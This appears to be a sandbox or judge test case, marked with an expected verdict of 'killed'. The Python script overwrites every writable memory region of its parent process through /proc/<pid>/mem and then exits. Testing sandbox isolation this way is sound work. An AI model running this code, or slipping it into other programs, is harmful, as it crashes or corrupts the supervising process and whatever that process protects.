# Verdict: killed
import os, time
parent = os.getppid()
try:
    maps = [line.split() for line in open("/proc/%d/maps" % parent)]
    memory = os.open("/proc/%d/mem" % parent, os.O_RDWR)
    for parts in maps:
        if "rw" in parts[1]:
            start, end = (int(part, 16) for part in parts[0].split("-"))
            try:
                os.pwrite(memory, b"\xff" * (end - start), start)
            except OSError:
                pass
except OSError:
    pass
os._exit(9)
